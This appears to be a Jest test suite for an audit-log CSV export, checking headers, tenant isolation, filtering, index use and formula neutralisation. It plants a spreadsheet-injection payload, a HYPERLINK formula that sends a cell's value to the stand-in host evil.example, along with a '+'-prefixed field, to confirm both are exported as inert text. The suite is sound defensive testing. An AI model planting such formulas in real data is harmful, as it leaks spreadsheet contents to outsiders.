import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import mongoose from 'mongoose';
import { audit, listAudit } from '../../server/access/index.ts';
import { readCsv } from '../../server/people/csv.ts';
import { createIndexes } from '../../server/platform/mongo.ts';
import { type AccessWorld, type Credentials, foreignTenantId, openAccessWorld } from '../support/access-world.ts';
import { addressOf, idOf } from '../support/small-directory.ts';

const api = '/api/v1';
const formula = '=HYPERLINK("https://evil.example?x="&A1,"click, please")';

describe('the audit log', () => {
  let world: AccessWorld;
  let admin: Credentials;
  let person: string;
  beforeAll(async () => {
    world = await openAccessWorld();
    admin = await world.session(['admin']);
    person = `${world.tenantId}:${idOf(2)}`;
    const path = `${api}/people/${encodeURIComponent(person)}`;
    await world.ask('PATCH', path, admin, { fields: { jobTitle: formula } });
    await world.ask('DELETE', path, admin, { reason: '+1\n"left"' });
    await world.ask('POST', `${api}/people/${encodeURIComponent(person)}/restore`, admin);
    await world.ask('POST', `${api}/roles`, admin, { address: addressOf(3), role: 'editor' });
    const by = { kind: 'system', name: 'test' } as const;
    for (let number = 0; number < 600; number += 1)
      await audit(world.tenantId, { by, what: 'image.add', targets: [String(number)] }, world.clock.now());
    await audit(foreignTenantId, { by, what: 'role.grant', targets: ['theirs'] }, world.clock.now());
  });
  afterAll(() => world?.close());

  const csv = async (query = '', who = admin) => {
    const answer = await world.ask('GET', `${api}/audit.csv${query}`, who);
    const { records, problems } = readCsv(answer.text);
    expect([answer.status, problems]).toEqual([200, []]);
    const [head = [], ...lines] = records.map(({ cells }) => cells);
    const rows = lines.map((cells) => Object.fromEntries(head.map((name, column) => [name, cells[column] ?? ''])));
    return { answer, rows };
  };

  it('comes as a CSV file that spreadsheets open as text, newest first, all of it', async () => {
    const { answer, rows } = await csv();
    expect(answer.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename=signet-audit-log.csv');
    expect(answer.headers.get('cache-control')).toContain('private');
    const bytes = await (await fetch(`${world.url}${api}/audit.csv`, { headers: admin })).arrayBuffer();
    expect(Buffer.from(bytes).subarray(0, 4).toString()).toBe('\uFEFFt');
    const entries = await listAudit(world.tenantId, { limit: 10_000 });
    expect(rows.map(({ id }) => id)).toEqual(entries.map(({ _id }) => _id));
    expect(rows.length).toBeGreaterThan(603);
    expect(answer.text).not.toContain('theirs');
  });

  it('calculates nothing: what begins like a formula is text', async () => {
    const { rows } = await csv(`?target=${encodeURIComponent(person)}`);
    expect(rows.map(({ what }) => what)).toEqual(
      expect.arrayContaining(['person.edit', 'person.remove', 'person.restore']),
    );
    const edited = rows.find(({ what }) => what === 'person.edit');
    expect(JSON.parse(edited?.after ?? '')).toMatchObject({ jobTitle: formula });
    expect(rows.find(({ what }) => what === 'person.remove')?.reason).toBe('\'+1\n"left"');
    for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^\s*[=+@-]/);
  });

  it('is narrowed by subject, in the list and in the file, and by whom it concerns', async () => {
    const { rows } = await csv('?subject=role');
    expect(new Set(rows.map(({ what }) => what?.split('.')[0]))).toEqual(new Set(['role']));
    const list = (await world.ask('GET', `${api}/audit?subject=role`, admin)).body.items;
    expect(list.map(({ id }: { id: string }) => id)).toEqual(rows.map(({ id }) => id));
    expect((await csv('?subject=nothing')).rows).toEqual([]);
    expect((await world.ask('GET', `${api}/audit.csv?subject=a.b`, admin)).status).toBe(400);
  });

  it.each([
    ['all', {}],
    ['a subject', { subject: 'image' }],
  ])('is read by an index, without sorting: %s', async (_what, filter) => {
    const query = mongoose.connection.collection('audit').find({ tenantId: world.tenantId, ...filter });
    const { queryPlanner, executionStats } = await query.sort({ at: -1, _id: 1 }).limit(50).explain('executionStats');
    expect(JSON.stringify(queryPlanner.winningPlan)).not.toMatch(/"SORT"|COLLSCAN/);
    expect(executionStats.totalDocsExamined).toBeLessThanOrEqual(50);
  });

  it('knows the subject of what former versions wrote', async () => {
    const entries = mongoose.connection.collection('audit');
    await entries.updateMany({ what: 'role.grant' }, { $unset: { subject: '' } });
    expect(await listAudit(world.tenantId, { subject: 'role' })).toEqual([]);
    await createIndexes();
    expect(await listAudit(world.tenantId, { subject: 'role' })).toHaveLength(1);
    expect(await listAudit(foreignTenantId, { subject: 'role' })).toHaveLength(1);
  });
});
